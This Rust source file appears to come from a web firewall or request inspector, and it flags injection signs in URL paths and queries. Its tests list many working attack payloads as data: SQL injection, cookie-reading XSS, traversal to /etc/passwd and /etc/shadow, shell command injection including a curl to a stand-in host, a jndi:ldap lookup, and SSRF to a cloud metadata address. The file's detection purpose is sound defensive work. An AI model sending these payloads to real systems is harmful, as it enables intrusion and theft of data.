//! Signs of injection in a request target: classes of structure, never single words.
//!
//! Nearly all targets have no byte that an injection needs and are let go after one look at each. Of
//! the rest the target is read as a server might read it (percent-decoded twice, in lower case,
//! white space and SQL's comments as one space), one automaton finds where a signature may be, and a
//! look at what stands around the place decides ([`signature`]).

mod around;
mod signature;
mod unfold;

use aho_corasick::AhoCorasick;
use model::limit::PATH_BYTES_MAX;
use model::{InjectionClass, InjectionClasses};
use signature::{SIGNATURES, Target};
use std::sync::LazyLock;

/// Bytes of a path and of a query that are looked at: what is kept of them.
const BYTES_MAX: usize = PATH_BYTES_MAX;
/// Places in one target that are looked at more closely.
const PLACES_MAX: usize = 512;

static AUTOMATON: LazyLock<Option<AhoCorasick>> =
    LazyLock::new(|| AhoCorasick::new(SIGNATURES.iter().map(|it| it.text)).ok());

/// Bytes without which nothing in a path, or in a query, is an injection; two dots, or two ampersands,
/// are one too.
const PATH_MARKS: &[u8] = b"%'\"<>();|`${}\\ \t*&\0";
const QUERY_MARKS: &[u8] = b"%'\"<>();|`${}\\ \t*+/\0";
static MARKS: [[bool; 256]; 2] = [table(PATH_MARKS), table(QUERY_MARKS)];

const fn table(marks: &[u8]) -> [bool; 256] {
    let mut table = [false; 256];
    let mut index = 0;
    while index < marks.len() {
        table[marks[index] as usize] = true;
        index += 1;
    }
    table
}

/// Whether a part of a target has any byte that an injection needs.
fn is_marked(part: &str, marks: &[bool; 256]) -> bool {
    let mut before = 0;
    part.bytes().any(|byte| {
        let is_pair = byte == before && matches!(byte, b'.' | b'&');
        before = byte;
        is_pair || marks.get(usize::from(byte)).copied().unwrap_or(false)
    })
}

/// A request target as a server might read it; it keeps its memory from one to the next.
#[derive(Clone, Debug, Default)]
pub(crate) struct Folded {
    once: Vec<u8>,
    text: Vec<u8>,
}

impl Folded {
    /// The signs of injection in a path and a query, before anything is taken out of them. `own` is the
    /// host that was called, if that is known: a URL of it is nothing to hide.
    pub(crate) fn classes(
        &mut self,
        path: &str,
        query: &str,
        own: Option<&str>,
    ) -> InjectionClasses {
        let [path_marks, query_marks] = &MARKS;
        if is_marked(path, path_marks) || is_marked(query, query_marks) {
            self.signs(path, query, own)
        } else {
            InjectionClasses::default()
        }
    }

    fn signs(&mut self, path: &str, query: &str, own: Option<&str>) -> InjectionClasses {
        let mut found = InjectionClasses::default();
        let query_at = self.fold(path, query);
        let target = Target { text: &self.text, query_at, own: own.unwrap_or("") };
        if target.leaves_root() {
            found.insert(InjectionClass::PathTraversal);
        }
        let Some(automaton) = AUTOMATON.as_ref() else { return found };
        for place in automaton.find_overlapping_iter(&self.text).take(PLACES_MAX) {
            let Some(signature) = SIGNATURES.get(place.pattern().as_usize()) else { continue };
            if !found.contains(signature.class)
                && signature.check.holds(&target, place.start(), place.end())
            {
                found.insert(signature.class);
            }
        }
        found
    }

    /// Folds path and query into one text; where the query begins in it.
    fn fold(&mut self, path: &str, query: &str) -> usize {
        let part = |text: &str| text.len().min(BYTES_MAX);
        self.text.clear();
        self.once.clear();
        unfold::decode(
            path.as_bytes().get(..part(path)).unwrap_or_default(),
            false,
            &mut self.once,
        );
        unfold::fold(&self.once, &mut self.text);
        let query_at = self.text.len();
        if !query.is_empty() {
            self.text.push(b'?');
            self.once.clear();
            let query = query.as_bytes().get(..part(query)).unwrap_or_default();
            unfold::decode(query, true, &mut self.once);
            unfold::fold(&self.once, &mut self.text);
        }
        query_at
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[track_caller]
    fn check(target: &str, expected: &str) {
        let (path, query) = target.split_once('?').unwrap_or((target, ""));
        let found = Folded::default().classes(path, query, Some("shop.example.com"));
        assert_eq!(found.to_string(), expected, "{target}");
    }

    #[test]
    fn sql_behind_the_end_of_a_value_is_seen() {
        for target in [
            "/items?id=1'%20or%20'1'='1",
            "/items?id=1%27+OR+1=1--+-",
            "/items?id=1+or+1=1",
            "/items?id=1)+and+(5383=5383",
            "/items?id=-1+UNION+ALL+SELECT+null,null,version()",
            "/items?id=1'/**/union/*x*/select/**/password/**/from/**/users--",
            "/items?id=1%2527%2520union%2520select%25201,2,3",
            "/items?id=1;drop%20table%20users",
            "/items?name=admin'--",
            "/items?name=admin'%23",
            "/items?id=1;WAITFOR%20DELAY%20'0:0:5'",
            "/items?id=1'||pg_sleep(5)--",
            "/items?id=if(now()=sysdate(),sleep(15),0)",
            "/items?id=1+and+sleep(5)",
            "/items?id=(select(0)from(select(sleep(15)))v)",
            "/items?id=1'+order+by+12--+",
            "/items?id=1+and+extractvalue(1,concat(0x7e,version()))",
            "/items/1'%20or%20'a'%3D'a",
            "/items?id=1+union+select+table_name+from+information_schema.tables",
            "/items?id=1+or@@version",
        ] {
            check(target, "sql");
        }
    }

    #[test]
    fn markup_and_script_are_seen() {
        for target in [
            "/search?q=<script>alert(1)</script>",
            "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
            "/search?q=\"><svg/onload=alert`1`>",
            "/search?q=x\"%20onmouseover=\"prompt(9)",
            "/search?next=javascript:alert(document.cookie)",
            "/search/%253Cscript%253Ealert(1)%253C/script%253E",
            "/search?q=';alert(String.fromCharCode(88))//",
        ] {
            check(target, "xss");
        }
    }

    #[test]
    fn a_path_that_leaves_its_root_is_seen() {
        for target in [
            "/../../../../etc/passwd",
            "/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
            "/download?file=../../../../windows/win.ini",
            "/download?file=..%252f..%252f..%252fetc%252fpasswd%2500.jpg",
            "/download?file=/etc/passwd",
            "/download?file=....//....//etc/hosts",
            "/download?file=..%5c..%5cboot.ini",
            "/show?img=../wp-config.php",
        ] {
            check(target, "path_traversal");
        }
    }

    #[test]
    fn commands_templates_and_inner_urls_are_seen() {
        check("/ping?host=1.1.1.1;cat%20/etc/hostname", "command");
        check("/ping?host=1.1.1.1%7cwhoami", "command");
        check("/ping?host=$(curl%20http://x.example)", "command");
        check("/ping?host=`id`", "command");
        check("/ping?host=a%26%26ping%20-c%205%20127.0.0.1", "command");
        check("/ping?host=a&&whoami", "command");
        check("/index.php?a=<?php%20system('id');?>", "command");
        check("/view?name={{7*7}}", "template");
        check("/view?name=${jndi:ldap://x.example/a}", "template,ssrf");
        check("/view?name={{''.__class__.__mro__}}", "template");
        check("/fetch?url=http://169.254.169.254/latest/meta-data/", "ssrf");
        check("/fetch?url=http%3A%2F%2F127.0.0.1:6379/", "ssrf");
        check("/fetch?url=gopher://db.example:3306/_x", "ssrf");
        check("/fetch?url=http://2130706433/", "ssrf");
        check("/fetch?url=file:///etc/passwd", "path_traversal,ssrf");
    }

    #[test]
    fn prose_and_ordinary_values_are_not() {
        for target in [
            "/search?q=select+a+union+from+the+list",
            "/search?q=union+select+committee+report",
            "/search?q=O'Brien",
            "/search?q=O%27Brien+and+Sons",
            "/search?q=d'Artagnan+or+Athos",
            "/search?q=rock+'n'+roll+--+best+of",
            "/search?q=%22salt+and+pepper%22+or+%22oil+and+vinegar%22",
            "/search?q=1+or+2+rooms",
            "/search?q=C%2B%2B+vector<int>+or+list",
            "/search?q=drop+table+lamp&sort=price",
            "/search?q=insert+into+socket;+update+later",
            "/search?q=order+by+phone",
            "/search?q=cat+/etc+in+linux",
            "/search?q=M%C3%BCller+Stra%C3%9Fe+%26+S%C3%B6hne",
            "/search?q=time.sleep(5)+in+python",
            "/search?q=how+to+alert+people",
            "/search?q=a<b+and+c>d",
            "/search?q=%24100+%7C+%24200",
            "/search?q=rm+-+what+is+it",
            "/login?redirect=https%3A%2F%2Fshop.example.com%2Fcart%3Fx%3D1",
            "/login?redirect=/cart",
            "/login?redirect_uri=http://localhost:8080/callback",
            "/embed?url=https://videos.example.org/watch?v=1",
            "/items?ids=1,2,3&fields=name|id|email",
            "/items?filter=price+gt+5+and+name+eq+'blue'",
            "/items?filter={\"a\":{\"$gt\":5},\"b\":[1,2]}",
            "/items?query={user(id:1){name,email}}",
            "/items?token=dGhpcyBpcyBhIHRlc3Q=&sig=a+b/c==",
            "/items/3f9a6c1e-0000-4000-8000-0123456789ab",
            "/items/{{id}}",
            "/items/${itemId}",
            "/items?from=2024-01-01T00:00:00%2B02:00",
            "/files/img/../logo.png",
            "/wiki/Foo_(bar);v=2",
            "/javascript:void(0)",
            "/blog?utm_campaign=Feed:+site/main+(example.com+-+Jo)",
            "/files/?C=M;O=D",
            "/wiki/etc/passwd",
            "/a/b--c/d?e=f--g",
            "/items?set=floor.xp_cmdshell&or=auto_prepend_file",
        ] {
            check(target, "");
        }
    }

    #[test]
    fn the_own_host_may_be_an_inner_one() {
        let classes = |own| Folded::default().classes("/go", "to=http://10.1.2.3:8080/cart", own);
        assert!(classes(Some("10.1.2.3")).is_empty());
        assert_eq!(classes(None).to_string(), "ssrf");
    }

    #[test]
    fn the_automaton_is_built() {
        assert!(AUTOMATON.is_some());
        assert!(SIGNATURES.iter().all(|it| it.text == it.text.to_ascii_lowercase()));
    }

    proptest! {
        #[test]
        fn anything_is_looked_at_without_harm(path in "\\PC{0,60}", query in any::<String>()) {
            Folded::default().classes(&path, &query, None);
        }

        #[test]
        fn what_the_first_look_lets_go_has_no_sign(
            words in prop::collection::vec((0..SIGNATURES.len(), "[a-z0-9=&_.:#-]{0,6}"), 0..6),
        ) {
            let words = words.iter().flat_map(|(index, more)| [SIGNATURES[*index].text, more]);
            let mut bytes: Vec<u8> = words.flat_map(str::bytes).filter(|it| !QUERY_MARKS.contains(it)).collect();
            bytes.dedup_by(|one, other| one == other && matches!(one, b'.' | b'&'));
            let query = String::from_utf8_lossy(&bytes);
            prop_assert!(!is_marked(&query, &MARKS[1]), "{query}");
            prop_assert!(Folded::default().signs("/a", &query, None).is_empty(), "{query}");
        }
    }
}
